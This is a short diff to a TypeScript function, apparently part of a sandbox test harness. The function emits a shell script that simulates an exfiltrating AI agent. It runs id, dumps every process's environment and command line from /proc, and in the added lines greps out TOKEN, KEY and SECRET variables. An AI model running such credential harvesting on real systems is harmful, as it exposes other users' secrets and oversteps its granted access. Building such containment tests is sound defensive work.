@@ -47,6 +47,8 @@ function attackScript(dir: string): string {
 label="$1"
 found="${dir}/found-$label.txt"
 {
+  # What an exfiltrating agent prints first: tool output and command output may reach the model only in part.
+  echo "== secret-looking variables"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^[A-Za-z_-]*(TOKEN|KEY|SECRET)[A-Za-z_-]*=' | sort -u
   echo "== who"; id
   echo "== every environment"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | sort -u
   echo "== every command line"; for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$f" 2>/dev/null; echo; done | sort -u
